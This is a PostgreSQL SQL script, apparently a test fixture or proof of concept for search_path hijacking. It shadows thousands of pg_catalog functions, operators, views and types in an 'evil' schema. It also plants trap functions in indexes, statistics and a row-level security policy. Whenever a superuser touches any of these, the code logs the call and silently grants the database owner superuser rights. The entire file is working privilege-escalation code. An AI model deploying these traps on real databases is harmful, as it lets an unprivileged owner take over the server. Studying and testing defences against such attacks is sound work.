-- Run in a database as its owner, who is nobody: a twin of every function,
-- aggregate, operator, relation and type of pg_catalog, in a schema that the
-- database's own search path puts before it. Whoever calls one is written
-- into the server's log, and a superuser who does makes the owner one.
SET search_path = pg_catalog;
SET check_function_bodies = off;
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;

CREATE FUNCTION evil.caught(what pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    RAISE LOG 'PLANTED % ran as %', what, current_user;
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        BEGIN
            EXECUTE format('ALTER ROLE %I SUPERUSER', (SELECT pg_get_userbyid(datdba)
                FROM pg_database WHERE datname = current_database()));
        EXCEPTION WHEN OTHERS THEN NULL;  -- read-only
        END;
    END IF;
    RETURN true;
END $$;

DO $plant$
DECLARE
    it record;
    made int := 0;
BEGIN
    -- Functions.
    FOR it IN
        SELECT p.proname AS name, pg_get_function_arguments(p.oid) AS arguments,
            pg_get_function_result(p.oid) AS result,
            p.proretset OR p.proallargtypes IS NOT NULL OR p.prorettype = 'void'::regtype AS bare
        FROM pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s ', it.name, it.arguments, it.result)
                || 'LANGUAGE plpgsql AS ' || quote_literal(format('BEGIN PERFORM evil.caught(%L); %s END',
                    'function ' || it.name, CASE WHEN it.bare THEN 'RETURN;' ELSE 'RETURN NULL;' END));
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN NULL;  -- of a type that only C functions take
        END;
    END LOOP;
    -- Aggregates.
    FOR it IN
        SELECT p.oid, p.proname AS name, pg_get_function_arguments(p.oid) AS arguments,
            pg_get_function_result(p.oid) AS result
        FROM pg_proc p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'a'
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s ', 'step_' || it.oid,
                    concat_ws(', ', it.result, nullif(it.arguments, '')), it.result)
                || 'LANGUAGE plpgsql AS ' || quote_literal(format(
                    'BEGIN PERFORM evil.caught(%L); RETURN NULL; END', 'aggregate ' || it.name));
            EXECUTE format('CREATE AGGREGATE evil.%I(%s) (SFUNC = evil.%I, STYPE = %s)', it.name,
                coalesce(nullif(it.arguments, ''), '*'), 'step_' || it.oid, it.result);
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    -- Operators.
    FOR it IN
        SELECT o.oid, o.oprname AS name, format_type(o.oprresult, NULL) AS result,
            concat_ws(', ', CASE WHEN o.oprleft <> 0 THEN format_type(o.oprleft, NULL) END,
                format_type(o.oprright, NULL)) AS arguments,
            concat_ws(', ', CASE WHEN o.oprleft <> 0 THEN 'LEFTARG = ' || format_type(o.oprleft, NULL) END,
                'RIGHTARG = ' || format_type(o.oprright, NULL)) AS sides
        FROM pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s ', 'operator_' || it.oid, it.arguments, it.result)
                || 'LANGUAGE plpgsql AS ' || quote_literal(format(
                    'BEGIN PERFORM evil.caught(%L); RETURN NULL; END', 'operator ' || it.name));
            EXECUTE format('CREATE OPERATOR evil.%s (FUNCTION = evil.%I, %s)', it.name,
                'operator_' || it.oid, it.sides);
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    -- Relations.
    FOR it IN
        SELECT c.relname AS name FROM pg_class c
        WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
    LOOP
        BEGIN
            EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.caught(%L)',
                it.name, it.name, 'relation ' || it.name);
            EXECUTE format('GRANT SELECT ON evil.%I TO PUBLIC', it.name);
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    -- Types.
    FOR it IN
        SELECT t.typname AS name FROM pg_type t
        WHERE t.typnamespace = 'pg_catalog'::regnamespace AND t.typtype = 'b' AND t.typcategory <> 'A'
    LOOP
        BEGIN
            EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.caught(%L))',
                it.name, it.name, 'type ' || it.name);
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    IF made < 3000 THEN
        RAISE EXCEPTION 'only % twins were planted', made;
    END IF;
END $plant$;

CREATE TABLE public.orders AS SELECT generate_series(1, 100) AS id;
-- What planning evaluates: functions of nothing in the row, called immutable.
-- Indexes are made and statistics taken as their owner, whom they leave alone.
CREATE FUNCTION public.planned(integer) RETURNS integer IMMUTABLE LANGUAGE plpgsql
SET search_path = pg_catalog AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        PERFORM evil.caught('plan');
    END IF;
    RETURN $1;
END $$;
CREATE INDEX ON public.orders ((public.planned(1) + id));
CREATE INDEX ON public.orders (id) WHERE public.planned(1) > id;
CREATE STATISTICS public.theirs ON (public.planned(1) + id), (id * 2) FROM public.orders;
CREATE POLICY theirs ON public.orders USING (evil.caught('policy'));
ALTER TABLE public.orders ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
